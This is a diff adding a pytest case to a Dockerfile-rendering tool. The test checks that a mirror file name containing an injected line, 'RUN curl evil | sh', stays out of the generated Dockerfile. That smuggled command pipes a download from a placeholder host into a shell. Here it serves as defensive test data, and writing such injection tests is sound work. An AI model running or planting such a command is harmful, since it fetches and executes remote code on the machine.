@@ -90,3 +90,21 @@ def test_the_environment_names_the_file(tmp_path: Path, monkeypatch: pytest.Monk
     assert mirrors.load().used() == (("git", "https://git.example.internal/gh"),)
     monkeypatch.delenv("ROCM_VLLM_MIRRORS")
     assert mirrors.load() == mirrors.Mirrors()
+
+
+def test_a_hostile_mirror_file_name_stays_inside_its_comment(tmp_path: Path) -> None:
+    path = tmp_path / "m\nRUN curl evil | sh\n.toml"
+    path.write_text('git = "https://git.example.internal/gh"\n')
+    m = matrix.load_dir(LIVE_MATRIX)
+    node = from_flags(gfx="gfx942", gpus=None, driver="30.30.3", os=None, rocm=None, python=None)
+    release = df.find_release(m, "0.33.0")
+    plan = df.plan_dockerfile(
+        m,
+        node,
+        release,
+        stack=df.choose_stack(m, node, release, None),
+        mirrors=mirrors.load(path),
+    )
+    text = df.render(plan)
+    assert not any(line.startswith("RUN curl evil") for line in text.splitlines())
+    assert "ARG GIT_BASE=https://git.example.internal/gh\n" in text
